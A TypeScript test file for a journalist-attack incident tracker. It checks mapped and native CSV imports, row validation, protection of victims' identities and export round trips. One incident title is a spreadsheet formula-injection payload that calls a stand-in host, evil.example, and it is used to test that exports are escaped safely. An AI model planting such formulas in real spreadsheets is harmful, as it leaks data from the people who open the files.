import { parse } from 'csv-parse/sync';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { createKey, createOrganisation, incidentBody } from './support/factories.ts';
import { request, startTestApp, useTestApp, type TestApp } from './support/test-app.ts';

/**
 * The mapped format (a tracker's own spreadsheet through a JSON mapping) and the native format
 * (Dateline's own export), including the round trip: export -> import into an empty database ->
 * export gives the same file.
 */
const t = useTestApp();

const fixture = (name: string) => readFileSync(new URL(`./fixtures/imports/${name}`, import.meta.url), 'utf8');
const trackerCsv = fixture('mapped-tracker.csv');
const trackerMapping = JSON.parse(fixture('mapped-tracker.mapping.json'));

const importJson = (target: TestApp, key: string, query: string, body: unknown) =>
  request(target, 'POST', `/v1/imports?${query}`, { key, body });
const importCsv = (target: TestApp, key: string, query: string, csv: string) =>
  request(target, 'POST', `/v1/imports?${query}`, { key, rawBody: csv, headers: { 'content-type': 'text/csv' } });
const incident = async (id: string) => (await request(t.app, 'GET', `/v1/incidents/${id}`, { key: t.actors.editor })).body;

describe('mapped', () => {
  it('reads dates, flags, value tables, lists and "Name (Outlet)" victims through the mapping', async () => {
    const dryRun = await importJson(t.app, t.actors.editor, 'format=mapped&dryRun=true', { csv: trackerCsv, mapping: trackerMapping });
    expect(dryRun.status, dryRun.text).toBe(200);
    expect(dryRun.body.rejected).toEqual([
      { line: 5, errors: [{ column: 'Fecha', value: '31/02/2020', reason: expect.stringContaining('DD/MM/YYYY or YYYY-MM') }] },
      { line: 6, errors: [{ column: 'País', value: 'Narnia', reason: expect.stringContaining('country') }] },
      { line: 7, errors: [{ column: 'Tipo de agresión', value: 'Robo', reason: expect.stringContaining('mapping') }] },
    ]);

    const response = await importJson(t.app, t.actors.editor, 'format=mapped&onError=skip&fileName=tracker.csv', {
      csv: trackerCsv,
      mapping: trackerMapping,
    });
    expect(response.status, response.text).toBe(201);
    expect(response.body.counts).toEqual({ rows: 6, valid: 3, rejected: 3, created: 3, skipped: 3, duplicates: 0 });
    const [two, flagged, monthOnly] = await Promise.all(
      response.body.created.map((row: { incidentId: string }) => incident(row.incidentId)),
    );
    expect(two).toMatchObject({
      title: 'Agresión contra Ana Díaz (Radio Sur); Luis Pérez (El Diario)',
      description: 'Resumen: Dos periodistas atacados a la salida de la radio.',
      date: { precision: 'day', start: '2021-03-15' },
      location: { country: 'MX', region: 'Veracruz', city: 'Xalapa' },
      attackTypes: ['killing', 'threat_harassment'],
      motive: 'work_related_confirmed',
      victims: [
        { name: 'Ana Díaz', outlet: 'Radio Sur', role: 'journalist' },
        { name: 'Luis Pérez', outlet: 'El Diario', role: 'journalist' },
      ],
      perpetratorClaims: [{ actorName: 'Policía estatal', actorType: 'police', attribution: 'alleged_by_victim' }],
      sources: [
        { url: 'https://example.org/a', kind: 'media_report', public: true },
        { url: 'https://example.org/b', kind: 'media_report', public: true },
        { title: 'Imported from tracker.csv, line 2 (mapped)', public: false },
      ],
    });
    // "Fecha exacta desconocida: sí" turns 01/06/2020 into June 2020; "Estados Unidos" comes from the value table.
    expect(flagged).toMatchObject({ date: { precision: 'month', start: '2020-06-01', end: '2020-06-30' }, location: { country: 'US' } });
    expect(flagged.perpetratorClaims).toEqual([expect.objectContaining({ actorName: 'Desconocido', actorType: 'unknown' })]);
    expect(monthOnly).toMatchObject({
      date: { precision: 'month', start: '2019-11-01' },
      attackTypes: ['threat_harassment'],
      victims: [{ name: 'Pedro Gómez', outlet: null }],
    });
  });

  it('checks the mapping itself before reading any row', async () => {
    const badMapping = { ...trackerMapping, date: { column: 'Fecha', formats: ['DD/MM'] }, colour: 'red' };
    const invalid = await importJson(t.app, t.actors.editor, 'format=mapped', { csv: trackerCsv, mapping: badMapping });
    expect(invalid.status).toBe(400);
    expect(invalid.body.errors).toEqual(
      expect.arrayContaining([
        { pointer: '/mapping/date/formats/0', detail: 'a date format needs YYYY' },
        { pointer: '/mapping/colour', detail: 'unknown field' },
      ]),
    );
    const missingColumn = await importJson(t.app, t.actors.editor, 'format=mapped', {
      csv: trackerCsv,
      mapping: { ...trackerMapping, city: { column: 'Municipio' } },
    });
    expect(missingColumn.status).toBe(400);
    expect(missingColumn.body.errors[0].detail).toContain('"Municipio"');
    const asCsvBody = await importCsv(t.app, t.actors.editor, 'format=mapped', trackerCsv);
    expect(asCsvBody.status).toBe(400);
  });
});

describe('native', () => {
  const exportCsv = async (target: TestApp, key: string, organisationId: string) => {
    const response = await fetch(`${target.url}/v1/incidents/export?format=csv&organisation=${organisationId}`, {
      headers: { authorization: `Bearer ${key}` },
    });
    expect(response.status).toBe(200);
    return response.text();
  };

  it('round-trips: export, import into an empty database, export again gives the same file', async () => {
    const organisation = await createOrganisation(t.app.db);
    const editor = await createKey(t.app.db, organisation.id, 'editor');
    const bodies = [
      incidentBody({
        title: '=HYPERLINK("http://evil.example/?"&A1)',
        description: '- starts with a dash, has "quotes", commas; and a\nline break',
        date: { precision: 'day', value: '2024-03-15' },
        location: {
          country: 'FJ',
          region: 'Eastern',
          city: 'Lakeba',
          coordinates: { latitude: -18.2, longitude: -178.8, precision: 'city' },
        },
        attackTypes: ['killing', 'threat_harassment'],
        motive: 'work_related_confirmed',
        judicialOutcome: 'investigation_open',
        victims: [
          { name: 'Regina Martínez', role: 'journalist', outcome: 'killed', gender: 'female', nationality: 'MX', outlet: 'Proceso' },
          { name: null, role: null, outcome: 'injured' },
          { name: 'Ahmad', role: 'media_worker', protected: true, gender: 'male', nationality: 'SY' },
        ],
        perpetratorClaims: [
          { actorName: 'Police (state)', actorType: 'police', attribution: 'alleged_by_others' },
          { actorName: 'Cartel', actorType: 'criminal_group', attribution: 'suspected_by_documenter' },
        ],
        sources: [
          { url: 'https://example.org/a', kind: 'media_report', public: true },
          { title: 'Untitled note', kind: 'witness_statement' },
        ],
      }),
      incidentBody({
        date: { precision: 'month', value: '2023-02' },
        victims: [],
        perpetratorClaims: [],
        sources: [],
        description: null,
        internalNotes: null,
      }),
      incidentBody({ date: { precision: 'year', value: '2021' }, location: { country: 'SY' }, victims: [{ name: 'عبد الله' }] }),
      incidentBody({ date: { precision: 'range', from: '2019-09-20', to: '2019-09-30' }, attackTypes: ['abduction'] }),
    ];
    for (const body of bodies) {
      const created = await request(t.app, 'POST', '/v1/incidents', { key: editor, body });
      expect(created.status, created.text).toBe(201);
    }
    const first = await exportCsv(t.app, editor, organisation.id);

    const empty = await startTestApp();
    try {
      const sameName = await createOrganisation(empty.db, organisation.name);
      const emptyEditor = await createKey(empty.db, sameName.id, 'editor');
      const imported = await importCsv(empty, emptyEditor, 'format=native&fileName=export.csv', first);
      expect(imported.status, imported.text).toBe(201);
      expect(imported.body.counts).toMatchObject({ rows: 4, created: 4 });
      expect(imported.body.ignoredColumns).toEqual([
        'id',
        'verification_status',
        'victims_killed',
        'organisation',
        'published_at',
        'updated_at',
        'visibility',
        'version',
      ]);
      const second = await exportCsv(empty, emptyEditor, sameName.id);
      expect(comparable(second, { withoutImportSource: true })).toEqual(comparable(first));
    } finally {
      await empty.close();
    }
  });

  it('keeps protected victims protected and reports bad rows by column', async () => {
    const file = [
      'title,date_precision,date_start,date_end,country,attack_types,victim_count,victim_names,victim_roles,perpetrators',
      "'+Plus sign title,day,2024-01-02,2024-01-02,TR,physical_assault,2,name withheld;Ayşe,journalist;activist,",
      'Bad month,month,2024-01-05,2024-01-31,TR,physical_assault,0,,,',
      'Bad lists,day,2024-01-02,2024-01-02,TR,looting,2,One;Two;Three,,Someone',
    ].join('\r\n');
    const response = await importCsv(t.app, t.actors.editor, 'format=native&onError=skip', `\uFEFF${file}\r\n`);
    expect(response.status, response.text).toBe(201);
    expect(response.body.rejected).toEqual([
      {
        line: 3,
        errors: [{ column: 'date_start', value: '2024-01-05..2024-01-31', reason: expect.stringContaining('first to its last day') }],
      },
      {
        line: 4,
        errors: expect.arrayContaining([
          expect.objectContaining({ column: 'victim_names', reason: expect.stringContaining('3 items') }),
          expect.objectContaining({ column: 'perpetrators', value: 'Someone' }),
          expect.objectContaining({ column: 'attack_types', value: 'looting' }),
        ]),
      },
    ]);
    const created = await incident(response.body.created[0].incidentId);
    expect(created.title).toBe('+Plus sign title');
    expect(created.victims).toMatchObject([
      { name: null, protected: true, role: 'journalist' },
      { name: 'Ayşe', protected: false, role: 'activist' },
    ]);
  });
});

/** The export minus what a new record gets anew: id and updated_at, and the import's own source. */
function comparable(csv: string, options: { withoutImportSource?: boolean } = {}) {
  const lines = parseCsv(csv);
  const header = lines[0]!;
  const drop = new Set(['id', 'updated_at'].map((name) => header.indexOf(name)));
  const [titles, ...otherSourceLists] = ['source_titles', 'source_urls', 'source_kinds', 'source_public'].map((name) =>
    header.indexOf(name),
  );
  return lines.map((cells, index) => {
    const row = [...cells];
    if (index > 0 && options.withoutImportSource) {
      expect(row[titles!]).toMatch(/Imported from export\.csv, line \d+ \(native\)$/);
      for (const column of [titles!, ...otherSourceLists]) row[column!] = row[column!]!.split(';').slice(0, -1).join(';');
    }
    return row.filter((_, column) => !drop.has(column));
  });
}

function parseCsv(text: string): string[][] {
  return parse(text, { bom: true });
}
